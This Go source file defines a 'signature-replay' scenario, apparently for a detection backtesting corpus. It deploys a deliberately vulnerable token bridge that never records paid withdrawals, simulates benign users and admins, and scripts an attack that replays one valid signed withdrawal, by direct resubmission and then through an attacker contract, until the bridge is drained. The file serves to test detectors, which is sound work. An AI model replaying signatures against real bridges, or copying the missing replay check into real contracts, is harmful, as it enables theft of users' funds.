// Package sigreplay is the "signature-replay" scenario: the release side of
// a lock-and-release bridge accepts withdrawals signed by the bridge's
// signer but never checks whether a signed transfer was already paid. The
// attacker bridges a modest amount legitimately, receives a valid signature
// for it, and submits that same signature again and again until the bridge
// is empty (Nomad, Multichain and TCH-style replayed authorisations).
//
// Benign users lock bUSD to bridge out and claim inbound transfers with
// fresh signatures from the Deployer-held signer key (signed here, in Go);
// a whale makes large claims and large deposits; the team changes the fee
// and hands the bridge's ownership to its operations key.
package sigreplay

import (
	"context"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"math/rand/v2"

	"github.com/ethereum/go-ethereum/accounts"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/warden-dev/warden/chain"
	"github.com/warden-dev/warden/contracts/bindings/replaybridge"
	"github.com/warden-dev/warden/contracts/bindings/replaybridgeattacker"
	"github.com/warden-dev/warden/contracts/bindings/replaybridgeusd"
	"github.com/warden-dev/warden/detect/backtest/corpus"
)

var (
	tokenABI    = replaybridgeusd.NewReplayBridgeUSD()
	bridgeABI   = replaybridge.NewReplayBridge()
	attackerABI = replaybridgeattacker.NewReplayBridgeAttacker()
)

// Fixed gas limits, several times what each call was measured to use.
const (
	gasApprove  = 120_000
	gasTransfer = 120_000
	gasMint     = 150_000
	gasBridge   = 200_000
	gasWithdraw = 200_000
	gasAdmin    = 150_000
	gasReplay   = 6_000_000
	gasETH      = 21_000
)

// liquidityFloor is what benign claims always leave in the bridge.
var liquidityFloor = corpus.Ether(600_000)

// attackClaim is the attacker's one legitimate inbound transfer.
var attackClaim = corpus.Ether(25_000)

type scenario struct{}

// New returns the signature-replay scenario.
func New() corpus.Scenario { return scenario{} }

func (scenario) Name() string     { return "signature-replay" }
func (scenario) Category() string { return "signature-replay" }

// State is the scenario's bookkeeping.
type State struct {
	Token, Bridge common.Address
	// Signer is the bridge's off-chain signing key, held by the team.
	Signer *ecdsa.PrivateKey
	// Ops is the operations key the Deployer hands the bridge to.
	Ops *ecdsa.PrivateKey
	// Claims counts benign withdrawals.
	Claims int

	owner    *ecdsa.PrivateKey
	wallet   map[common.Address]*big.Int
	liquid   *big.Int // bridge balance, tracked
	inNonce  int64    // next inbound transfer nonce (from the other chain)
	step     int
	handAt   int
	handed   bool
	chainIDs []int64 // destination chains for bridgeOut
}

func key(label string) (*ecdsa.PrivateKey, error) {
	k, err := crypto.ToECDSA(crypto.Keccak256([]byte("warden-corpus-sigreplay-" + label)))
	if err != nil {
		return nil, fmt.Errorf("sigreplay: %s key: %w", label, err)
	}
	return k, nil
}

func (scenario) Deploy(ctx context.Context, env *corpus.Env, rng *rand.Rand) (*corpus.Deployment, error) {
	if len(env.Users) < 2 {
		return nil, fmt.Errorf("sigreplay: need at least 2 users, have %d", len(env.Users))
	}
	signer, err := key("signer")
	if err != nil {
		return nil, err
	}
	ops, err := key("ops")
	if err != nil {
		return nil, err
	}
	deployer := corpus.Address(env.Deployer)
	st := &State{Signer: signer, Ops: ops, owner: env.Deployer, wallet: map[common.Address]*big.Int{},
		inNonce: 10_000 + rng.Int64N(5_000), handAt: 40 + rng.IntN(60), chainIDs: []int64{10, 56, 137, 42161}}
	if st.Token, _, err = env.Deploy(ctx, env.Deployer, &replaybridgeusd.ReplayBridgeUSDMetaData, deployer); err != nil {
		return nil, fmt.Errorf("sigreplay: deploy ReplayBridgeUSD: %w", err)
	}
	if st.Bridge, _, err = env.Deploy(ctx, env.Deployer, &replaybridge.ReplayBridgeMetaData, st.Token, corpus.Address(signer), deployer); err != nil {
		return nil, fmt.Errorf("sigreplay: deploy ReplayBridge: %w", err)
	}
	var sent []common.Hash
	send := func(k *ecdsa.PrivateKey, to common.Address, data []byte, value *big.Int, gas uint64) error {
		h, err := env.Call(ctx, k, to, data, value, gas)
		if err != nil {
			return fmt.Errorf("sigreplay: deploy: %w", err)
		}
		sent = append(sent, h)
		return nil
	}
	st.liquid = corpus.Ether(1_500_000)
	if err := send(env.Deployer, st.Token, tokenABI.PackMint(st.Bridge, st.liquid), nil, gasMint); err != nil {
		return nil, err
	}
	if err := send(env.Deployer, st.Bridge, bridgeABI.PackSetFee(big.NewInt(5)), nil, gasAdmin); err != nil {
		return nil, err
	}
	if err := send(env.Deployer, corpus.Address(ops), nil, corpus.Ether(10), gasETH); err != nil {
		return nil, err
	}
	for i, u := range env.Users {
		a := corpus.Address(u)
		amt := corpus.Ether(20_000 + rng.Int64N(60_000))
		if i == 0 {
			amt = corpus.Ether(500_000)
		}
		st.wallet[a] = amt
		if err := send(env.Deployer, st.Token, tokenABI.PackMint(a, amt), nil, gasMint); err != nil {
			return nil, err
		}
		if err := send(u, st.Token, tokenABI.PackApprove(st.Bridge, maxUint), nil, gasApprove); err != nil {
			return nil, err
		}
	}
	for _, h := range sent {
		r, err := env.Wait(ctx, h)
		if err != nil {
			return nil, fmt.Errorf("sigreplay: deploy: %w", err)
		}
		if r.Status != 1 {
			return nil, fmt.Errorf("sigreplay: deploy: transaction %s reverted", h)
		}
	}
	return &corpus.Deployment{
		Contracts: []corpus.Contract{
			corpus.ContractOf("ReplayBridge", st.Bridge, &replaybridge.ReplayBridgeMetaData),
			corpus.ContractOf("ReplayBridgeUSD", st.Token, &replaybridgeusd.ReplayBridgeUSDMetaData),
		},
		Admins: []common.Address{deployer, corpus.Address(ops)},
		State:  st,
	}, nil
}

var maxUint = new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))

// Sign returns the signer's EIP-191 signature of ReplayBridge.withdrawalHash
// (bridge, to, amount, nonce), as the bridge's off-chain signer produces it.
func Sign(signer *ecdsa.PrivateKey, bridge, to common.Address, amount *big.Int, nonce int64) ([]byte, error) {
	var enc []byte
	enc = append(enc, common.LeftPadBytes(bridge.Bytes(), 32)...)
	enc = append(enc, common.LeftPadBytes(to.Bytes(), 32)...)
	enc = append(enc, common.LeftPadBytes(amount.Bytes(), 32)...)
	enc = append(enc, common.LeftPadBytes(big.NewInt(nonce).Bytes(), 32)...)
	sig, err := crypto.Sign(accounts.TextHash(crypto.Keccak256(enc)), signer)
	if err != nil {
		return nil, fmt.Errorf("sigreplay: sign withdrawal %d: %w", nonce, err)
	}
	sig[64] += 27
	return sig, nil
}

func amount(rng *rand.Rand, lo, hi int64) *big.Int {
	cents := lo*100 + rng.Int64N((hi-lo)*100+1)
	return new(big.Int).Mul(big.NewInt(cents), big.NewInt(1e16))
}

func (scenario) Benign(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]common.Hash, error) {
	st, ok := d.State.(*State)
	if !ok {
		return nil, fmt.Errorf("sigreplay: deployment state is %T, not *sigreplay.State", d.State)
	}
	st.step++
	call := func(k *ecdsa.PrivateKey, to common.Address, data []byte, gas uint64) ([]common.Hash, error) {
		h, err := env.Call(ctx, k, to, data, nil, gas)
		if err != nil {
			return nil, fmt.Errorf("sigreplay: benign step %d: %w", st.step, err)
		}
		return []common.Hash{h}, nil
	}
	// claim releases an inbound transfer to u with a fresh signature.
	claim := func(u *ecdsa.PrivateKey, amt *big.Int) ([]common.Hash, error) {
		a := corpus.Address(u)
		nonce := st.inNonce
		st.inNonce++
		sig, err := Sign(st.Signer, st.Bridge, a, amt, nonce)
		if err != nil {
			return nil, err
		}
		st.liquid.Sub(st.liquid, amt)
		st.wallet[a].Add(st.wallet[a], amt)
		st.Claims++
		return call(u, st.Bridge, bridgeABI.PackWithdraw(a, amt, big.NewInt(nonce), sig), gasWithdraw)
	}
	if !st.handed && st.step >= st.handAt {
		st.handed = true
		prev := st.owner
		st.owner = st.Ops
		return call(prev, st.Bridge, bridgeABI.PackTransferOwnership(corpus.Address(st.Ops)), gasAdmin)
	}
	whale := env.Users[0]
	wa := corpus.Address(whale)
	u := env.Users[1+rng.IntN(len(env.Users)-1)]
	ua := corpus.Address(u)
	switch p := rng.IntN(100); {
	case p < 3:
		return call(st.owner, st.Bridge, bridgeABI.PackSetFee(big.NewInt(rng.Int64N(11))), gasAdmin)
	case p < 9:
		// The whale bridges a large amount in (a big claim) or out.
		amt := amount(rng, 80_000, 200_000)
		if new(big.Int).Sub(st.liquid, amt).Cmp(liquidityFloor) >= 0 && rng.IntN(2) == 0 {
			return claim(whale, amt)
		}
		if st.wallet[wa].Cmp(amt) < 0 {
			amt = new(big.Int).Div(st.wallet[wa], big.NewInt(2))
		}
		if amt.Sign() == 0 {
			break
		}
		st.wallet[wa].Sub(st.wallet[wa], amt)
		st.liquid.Add(st.liquid, amt)
		return call(whale, st.Bridge, bridgeABI.PackBridgeOut(amt, wa, big.NewInt(st.chainIDs[rng.IntN(len(st.chainIDs))])), gasBridge)
	case p < 20:
		to := corpus.Address(env.Users[rng.IntN(len(env.Users))])
		amt := amount(rng, 5, 3_000)
		if to == ua || st.wallet[ua].Cmp(amt) < 0 {
			break
		}
		st.wallet[ua].Sub(st.wallet[ua], amt)
		st.wallet[to].Add(st.wallet[to], amt)
		return call(u, st.Token, tokenABI.PackTransfer(to, amt), gasTransfer)
	case p < 60:
		amt := amount(rng, 10, 8_000)
		if new(big.Int).Sub(st.liquid, amt).Cmp(liquidityFloor) < 0 {
			break
		}
		return claim(u, amt)
	}
	amt := amount(rng, 10, 8_000)
	if st.wallet[ua].Cmp(amt) < 0 {
		amt = new(big.Int).Div(st.wallet[ua], big.NewInt(4))
	}
	if amt.Sign() == 0 {
		return nil, nil
	}
	st.wallet[ua].Sub(st.wallet[ua], amt)
	st.liquid.Add(st.liquid, amt)
	// Users bridge out to themselves on another chain, sometimes to a
	// friend.
	to := ua
	if rng.IntN(5) == 0 {
		to = corpus.Address(env.Users[rng.IntN(len(env.Users))])
	}
	return call(u, st.Bridge, bridgeABI.PackBridgeOut(amt, to, big.NewInt(st.chainIDs[rng.IntN(len(st.chainIDs))])), gasBridge)
}

// Balance reads who's bUSD balance at block (nil = latest).
func Balance(ctx context.Context, env *corpus.Env, token, who common.Address, block *big.Int) (*big.Int, error) {
	v, err := chain.BalanceOf(ctx, env.Client, token, who, block)
	if err != nil {
		return nil, fmt.Errorf("sigreplay: %w", err)
	}
	return v, nil
}

func (scenario) Attack(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]corpus.AttackTx, error) {
	st, ok := d.State.(*State)
	if !ok {
		return nil, fmt.Errorf("sigreplay: deployment state is %T, not *sigreplay.State", d.State)
	}
	attacker := corpus.Address(env.Attacker)
	// The attacker bridged 25,000 bUSD in from the other chain, honestly:
	// the signer signs its withdrawal like any other.
	nonce := st.inNonce
	st.inNonce++
	sig, err := Sign(st.Signer, st.Bridge, attacker, attackClaim, nonce)
	if err != nil {
		return nil, err
	}
	withdraw := bridgeABI.PackWithdraw(attacker, attackClaim, big.NewInt(nonce), sig)
	var out []corpus.AttackTx
	step := func(stage corpus.Stage, note string, to common.Address, data []byte, gas uint64) error {
		r, err := env.CallAndWait(ctx, env.Attacker, to, data, nil, gas)
		if r != nil {
			out = append(out, corpus.AttackTx{Hash: r.TxHash, Stage: stage, Note: note})
		}
		if err != nil {
			return fmt.Errorf("sigreplay: %s: %w", note, err)
		}
		return nil
	}
	if err := step(corpus.StagePreparation, "attacker claims its own legitimate 25,000 bUSD inbound transfer", st.Bridge, withdraw, gasWithdraw); err != nil {
		return out, err
	}
	for i := 0; i < 2; i++ {
		if err := step(corpus.StageExploit, "attacker resubmits the same signed withdrawal (replay)", st.Bridge, withdraw, gasWithdraw); err != nil {
			return out, err
		}
	}
	replayer, r, err := env.Deploy(ctx, env.Attacker, &replaybridgeattacker.ReplayBridgeAttackerMetaData)
	if r != nil {
		out = append(out, corpus.AttackTx{Hash: r.TxHash, Stage: corpus.StagePreparation, Note: "attacker deploys ReplayBridgeAttacker"})
	}
	if err != nil {
		return out, fmt.Errorf("sigreplay: deploy ReplayBridgeAttacker: %w", err)
	}
	left, err := Balance(ctx, env, st.Token, st.Bridge, nil)
	if err != nil {
		return out, err
	}
	times := new(big.Int).Div(left, attackClaim)
	if times.Sign() == 0 {
		return out, fmt.Errorf("sigreplay: bridge holds only %s bUSD, less than one replay", left)
	}
	data := attackerABI.PackReplay(st.Bridge, attacker, attackClaim, big.NewInt(nonce), sig, times)
	if err := step(corpus.StageExploit, fmt.Sprintf("ReplayBridgeAttacker replays the signature %s times in one transaction", times), replayer, data, gasReplay); err != nil {
		return out, err
	}
	return out, nil
}
